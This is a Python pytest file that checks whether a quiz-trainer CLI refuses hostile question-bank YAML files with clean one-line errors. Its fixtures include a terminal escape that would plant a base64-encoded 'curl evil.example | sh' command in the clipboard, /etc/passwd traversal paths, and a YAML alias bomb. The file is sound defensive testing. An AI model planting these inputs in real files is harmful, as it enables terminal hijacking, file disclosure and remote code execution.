"""Banks are files people pass around: a hostile one gets one line per problem naming the file
and line, a non-zero exit and no traceback, and can never make trainer read another file, run a
terminal escape, exhaust memory or hang (issue #20, items 1–4, 9, 11)."""

from __future__ import annotations

import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from test_stats_cli import BANK, run  # shared helpers (tests/cli is on sys.path)

HEADER = "bank: {id: hostile, title: 敌意题库}\nquestions:\n"


def _bank(tmp_path: Path, text: str, name: str = "hostile.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _refused(result: subprocess.CompletedProcess[str]) -> list[str]:
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr and "Error:" not in result.stderr
    return result.stderr.strip().splitlines()


def test_an_escape_sequence_in_a_prompt_is_refused_with_its_line(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    # Today the prompt's OSC 52 set the terminal's clipboard, in the app and in plain mode.
    bank = _bank(
        tmp_path,
        HEADER
        + '  - {id: q1, type: short, prompt: "问题\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a",'
        " answer: 答}\n" + '  - id: q2\n    type: short\n    prompt: 正常\n    answer: "\\x9b2J"\n',
    )
    for args in (["validate", str(bank)], ["study", "--plain", "--bank", str(bank)]):
        result = run(cli_env, *args, "--lang", "en")
        lines = _refused(result)
        assert "\x1b" not in result.stdout + result.stderr
        assert "\x9b" not in result.stdout + result.stderr
        assert f"{bank}:3:" in lines[0] and "U+001B" in lines[0]
        assert f"{bank}:7:" in lines[1] and "U+009B" in lines[1]


def test_a_file_name_with_an_escape_is_shown_escaped(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    bank = _bank(tmp_path, "questions: [", name="evil\x1b]0;pwned\x07.yaml")
    result = run(cli_env, "validate", str(bank))
    _refused(result)
    assert "\x1b" not in result.stderr and "\\x1b]0;pwned\\x07" in result.stderr


@pytest.mark.parametrize(
    "where", ["/etc/passwd", "../../../../../../etc/passwd", "/dev/zero", "sub/../../x.txt"]
)
def test_source_and_reading_must_stay_in_the_banks_folder(
    cli_env: dict[str, str], tmp_path: Path, where: str
) -> None:
    # Today `--check-sources` answered whether a quote appears in /etc/passwd.
    folder = tmp_path / "banks"
    folder.mkdir()
    (tmp_path / "x.txt").write_text("root:x:0:0", encoding="utf-8")
    for key in ("source", "reading"):
        bank = _bank(
            folder,
            f"bank: {{id: b, title: t, {key}: {where}}}\nquestions:\n"
            "  - {id: q1, type: short, prompt: p, answer: a, source: 'root:x:0:0'}\n",
        )
        result = run(cli_env, "validate", "--check-sources", str(bank), "--lang", "en")
        lines = _refused(result)
        assert len(lines) == 1 and f"{bank}:1:" in lines[0] and f"'{key}'" in lines[0]
        assert "verbatim" not in result.stdout + result.stderr


def test_a_report_inside_the_folder_still_checks(cli_env: dict[str, str], tmp_path: Path) -> None:
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "r.txt").write_text("坚持党的领导", encoding="utf-8")
    bank = _bank(
        tmp_path,
        "bank: {id: b, title: t, source: reports/r.txt}\nquestions:\n"
        "  - {id: q1, type: short, prompt: p, answer: a, source: 坚持党的领导}\n",
    )
    result = run(cli_env, "validate", "--check-sources", str(bank))
    assert result.returncode == 0, result.stderr


def test_a_directory_or_pipe_as_source_is_refused(cli_env: dict[str, str], tmp_path: Path) -> None:
    (tmp_path / "dir").mkdir()
    os.mkfifo(tmp_path / "pipe.txt")
    for where in ("dir", "pipe.txt"):
        bank = _bank(
            tmp_path,
            f"bank: {{id: b, title: t, source: {where}}}\nquestions:\n"
            "  - {id: q1, type: short, prompt: p, answer: a}\n",
        )
        lines = _refused(run(cli_env, "validate", "--check-sources", str(bank), "--lang", "en"))
        assert "regular" in lines[0]


def test_an_alias_bomb_is_refused_at_once_with_its_line(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    # Today 479 bytes took 3 GB in 43 s and ended in a bare MemoryError.
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for index in range(1, 9):
        name, previous = chr(ord("a") + index), chr(ord("a") + index - 1)
        levels.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    bank = _bank(tmp_path, "\n".join(levels) + "\n" + HEADER + "  - {id: q, type: short}\n")
    assert len(bank.read_bytes()) < 700
    started = time.monotonic()
    result = run(cli_env, "validate", str(bank), "--lang", "en")
    assert time.monotonic() - started < 20
    lines = _refused(result)
    assert lines == [
        f"{bank}:2: YAML aliases (*name) are not allowed in a bank; write the content out in full"
    ]


def test_a_bank_over_the_size_limit_is_refused(cli_env: dict[str, str], tmp_path: Path) -> None:
    from trainer.core.bank.files import MAX_BANK_BYTES

    bank = tmp_path / "huge.yaml"
    with bank.open("wb") as handle:
        handle.truncate(MAX_BANK_BYTES + 1)
    lines = _refused(run(cli_env, "validate", str(bank), "--lang", "en"))
    assert lines == [
        f"{bank}: is too large (a bank may be at most 64 MB; split it into several files)"
    ]


def test_duplicate_keys_are_errors_with_both_lines(cli_env: dict[str, str], tmp_path: Path) -> None:
    # Today a second `questions:` silently replaced the first and `validate` exited 0.
    bank = _bank(
        tmp_path,
        "bank:\n  id: first\n  title: t\n  id: second\n"
        "questions:\n  - {id: q1, type: short, prompt: p, answer: a}\n"
        "questions:\n  - {id: q2, type: short, prompt: p, answer: a}\n",
    )
    lines = _refused(run(cli_env, "validate", str(bank), "--lang", "en"))
    assert lines == [
        f"{bank}:4: the key 'id' appears twice (also on line 2); remove or merge one of them",
        f"{bank}:7: the key 'questions' appears twice (also on line 5); "
        "remove or merge one of them",
    ]


@pytest.mark.parametrize(
    "answer",
    ["9" * 400, "-" + "9" * 400, ".inf", "1e400"],
    ids=["400-digits", "-400", "inf", "1e400"],
)
def test_a_huge_number_answer_is_refused_with_its_line(
    cli_env: dict[str, str], tmp_path: Path, answer: str
) -> None:
    # Today: "trainer: OverflowError: int too large to convert to float", no file, no line.
    bank = _bank(
        tmp_path, HEADER + f"  - id: n\n    type: number\n    prompt: p\n    answer: {answer}\n"
    )
    lines = _refused(run(cli_env, "validate", str(bank), "--lang", "en"))
    assert len(lines) == 1 and lines[0].startswith(f"{bank}:6: question 'n': 'answer'")


def test_a_fifo_as_a_bank_does_not_hang(cli_env: dict[str, str], tmp_path: Path) -> None:
    fifo = tmp_path / "bank.yaml"
    os.mkfifo(fifo)
    for args in (["validate", str(fifo)], ["stats", "--bank", str(fifo)]):
        result = subprocess.run(
            [sys.executable, "-m", "trainer", *args, "--lang", "en"],
            env=cli_env,
            capture_output=True,
            text=True,
            timeout=30,
        )
        lines = _refused(result)
        assert lines == [
            f"{fifo}: is not a regular file (a bank must be a .yaml file, not a pipe or a device)"
        ]


def test_the_same_store_error_exits_with_the_same_code_from_every_command(
    cli_env: dict[str, str], data_dir: Path, tmp_path: Path
) -> None:
    # Today the same unreadable store exited 1 from some commands and 2 from others.
    bank = _bank(tmp_path, BANK, name="ok.yaml")
    db = data_dir / "trainer.sqlite3"
    db.write_bytes(b"this is not a database" * 100)
    history = tmp_path / "h.csv"
    history.write_text("reviewed_at,bank_id,question_id,verdict,rating,score\n", encoding="utf-8")
    commands = [
        ["stats", "--bank", str(bank)],
        ["export", "--format", "csv"],
        ["import", str(history)],
        ["profile", "list"],
        ["settings", "show"],
        ["study", "--plain", "--bank", str(bank)],
    ]
    codes = {}
    for args in commands:
        result = run(cli_env, *args)
        assert "Traceback" not in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, (args, result.stderr)
        codes[args[0]] = result.returncode
    assert set(codes.values()) == {1}, codes
    with pytest.raises(sqlite3.DatabaseError):
        sqlite3.connect(db).execute("SELECT 1 FROM reviews")
